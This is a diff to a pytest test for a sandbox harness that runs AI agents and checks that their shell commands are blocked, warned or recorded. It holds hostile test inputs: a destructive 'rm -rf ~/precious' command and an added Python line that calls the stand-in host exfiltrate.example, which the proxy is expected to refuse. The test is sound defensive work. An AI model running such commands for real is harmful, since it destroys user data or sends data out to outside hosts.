@@ -35,6 +35,8 @@ from real_agents import DIALECT, AgentSetup, agent_binary
 DENIED = "touch denied-ran.txt; rm -rf ~/precious"
 BENIGN = "echo hello > benign.txt"
 WARNED = "mkdir -p shared && chmod -R o+w shared && touch warned.txt"
+# a host no allow-list holds: refused by bar's proxy, and recorded
+REACH = "python3 -c \"import urllib.request as u; u.urlopen('http://exfiltrate.example/')\" || true"
 
 
 @pytest.fixture
@@ -57,6 +59,7 @@ def test_a_real_agent_is_checked_and_recorded(
         Shell(DENIED),
         Shell(BENIGN),
         Shell(WARNED),
+        Shell(REACH),
         WriteFile(str(notes), "written by the agent\n"),
         Answer("All done."),
     ]
@@ -85,7 +88,15 @@ def test_a_real_agent_is_checked_and_recorded(
         DENIED: ("block", "deny", "refused"),
         BENIGN: ("allow", "none", "ran"),
         WARNED: ("warn", "warning", "ran"),
+        REACH: ("allow", "none", "ran"),
     }
+    # the agent reached its model (on loopback: its base URL is allowed); the command it
+    # ran was refused (so is the agents' own telemetry: github.com, play.googleapis.com)
+    port = int(server.url.rsplit(":", 1)[1])
+    assert any(c["port"] == port and c["allowed"] for c in step["network"]), step["network"]
+    reached = {(c["host"], c["allowed"]) for c in step["network"]}
+    assert ("exfiltrate.example", False) in reached
+    assert "bar refused exfiltrate.example" in results[3]
     assert {e["source"] for e in step["policy_events"]} == {f"hook:{agent}"}
     assert all(e.get("session_id") for e in step["policy_events"])
     assert step["agent"] == {"name": agent, "hooks": "home", "interactive": False, "sessions": 1}
